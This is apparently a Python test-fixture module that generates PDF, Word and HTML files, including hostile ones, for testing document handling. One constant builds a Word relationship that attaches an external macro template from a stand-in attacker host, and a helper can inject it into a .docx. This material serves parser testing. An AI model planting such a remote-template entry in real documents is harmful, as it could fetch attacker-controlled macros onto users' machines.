"""PDF, Word and HTML files made on the spot for tests and benchmarks (reportlab, python-docx), including
the hostile ones: encrypted, scanned (no text layer), truncated, zip bombs, external references."""

import io
import zipfile
from datetime import datetime
from pathlib import Path

EXTERNAL_TEMPLATE = (
    '<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://attacker.invalid/template.dotm" TargetMode="External"/>'
)


def make_pdf(
    path: Path,
    pages: list[str],
    *,
    title: str | None = None,
    author: str | None = None,
    encrypt: str | None = None,
) -> Path:
    """One page per string (lines split on newlines), with Info Title/Author when given."""
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    pdf = canvas.Canvas(str(path), pagesize=A4, encrypt=encrypt, invariant=True)
    if title:
        pdf.setTitle(title)
    if author:
        pdf.setAuthor(author)
    for text in pages:
        y = 800
        for line in text.split("\n"):
            pdf.drawString(60, y, line)
            y -= 16
        pdf.showPage()
    pdf.save()
    return path


def make_many_page_pdf(path: Path, count: int) -> Path:
    return make_pdf(path, [f"Page {n} of the long register. Entry {n} reads ready." for n in range(1, count + 1)])


def make_scanned_pdf(path: Path) -> Path:
    """A page that is only a picture (what a scanner makes): no text layer."""
    from PIL import Image
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    picture = Image.new("RGB", (200, 100), "white")
    pdf = canvas.Canvas(str(path))
    pdf.drawImage(ImageReader(picture), 50, 600, width=400, height=200)
    pdf.showPage()
    pdf.save()
    return path


def make_docx(
    path: Path,
    blocks: list[tuple[str, str]],
    *,
    title: str | None = None,
    author: str | None = None,
    created: datetime | None = None,
) -> Path:
    """`blocks`: ("h1".."h3", text) headings, ("p", text) paragraphs, ("table", "a|b;c|d") tables."""
    import docx

    document = docx.Document()
    for kind, text in blocks:
        if kind.startswith("h"):
            document.add_heading(text, level=int(kind[1:]))
        elif kind == "table":
            rows = [row.split("|") for row in text.split(";")]
            table = document.add_table(rows=len(rows), cols=len(rows[0]))
            for r, row in enumerate(rows):
                for c, cell in enumerate(row):
                    table.cell(r, c).text = cell
        else:
            document.add_paragraph(text)
    core = document.core_properties
    core.title = title or ""
    core.author = author or ""
    if created is not None:
        core.created = created
    document.save(str(path))
    return path


def rewrite_docx(path: Path, *, add: dict[str, bytes] | None = None, relationship: str | None = None) -> Path:
    """Add members to a .docx, or a relationship to word/_rels/document.xml.rels."""
    source = path.read_bytes()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            data = old.read(item)
            if relationship and item.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", relationship.encode() + b"</Relationships>")
            new.writestr(item, data)
        for name, data in (add or {}).items():
            new.writestr(name, data)
    path.write_bytes(out.getvalue())
    return path


def page_html(title: str, sections: list[tuple[str, str]], *, author: str = "", published: str = "") -> str:
    """A page with navigation, a script and a footer around <main>, one <h2> per section."""
    head = f"<title>{title}</title>"
    if author:
        head += f'<meta name="author" content="{author}">'
    if published:
        head += f'<meta property="article:published_time" content="{published}">'
    body = "".join(f"<h2>{heading}</h2><p>{text}</p>" for heading, text in sections)
    return (
        f"<!doctype html><html lang=en><head><meta charset=utf-8>{head}</head><body>"
        "<nav><a href=/>Home</a> <a href=/about>About us</a></nav>"
        f"<main><h1>{title}</h1>{body}</main>"
        "<script>trackVisitor('cookie banner');</script><footer>Copyright footer text</footer></body></html>"
    )


def make_pdf_with_figure(path: Path, *, title: str, author: str) -> Path:
    """Page 1: text; page 2: a 240×160 chart with a "Figure 1:" caption line and a 12×12 bullet icon."""
    from PIL import Image, ImageDraw
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    chart = Image.new("RGB", (240, 160), "white")
    draw = ImageDraw.Draw(chart)
    for n, height in enumerate((40, 90, 130, 70)):
        draw.rectangle((20 + n * 55, 150 - height, 60 + n * 55, 150), fill=(30, 90, 160))
    bullet = Image.new("RGB", (12, 12), "black")
    pdf = canvas.Canvas(str(path), invariant=True)
    pdf.setTitle(title)
    pdf.setAuthor(author)
    pdf.drawString(60, 800, "Wave heights rose through the spring season.")
    pdf.showPage()
    pdf.drawImage(ImageReader(bullet), 60, 780, width=12, height=12)
    pdf.drawString(80, 780, "Measurements")
    pdf.drawImage(ImageReader(chart), 60, 560, width=240, height=160)
    pdf.drawString(60, 540, "Figure 1: Monthly mean wave height at Skerry-7, March to June.")
    pdf.showPage()
    pdf.save()
    return path
